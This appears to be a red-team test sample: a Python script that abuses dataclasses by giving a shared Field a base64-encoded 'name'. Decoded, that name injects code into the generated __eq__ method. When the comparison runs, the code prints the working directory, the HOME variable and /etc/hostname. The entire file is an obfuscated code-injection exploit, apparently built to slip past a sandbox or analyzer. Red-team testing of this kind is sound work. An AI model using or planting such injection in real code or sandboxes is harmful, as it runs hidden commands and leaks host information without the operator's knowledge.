# family: red team, round 51a (a Field as an annotated attribute of a plain class, shared with a dataclass, renamed)
import base64
import dataclasses


class Holder:
    f: int = dataclasses.field(default=0)


@dataclasses.dataclass
class A:
    x: int = Holder.f


def main():
    Holder.f.name = base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode()

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
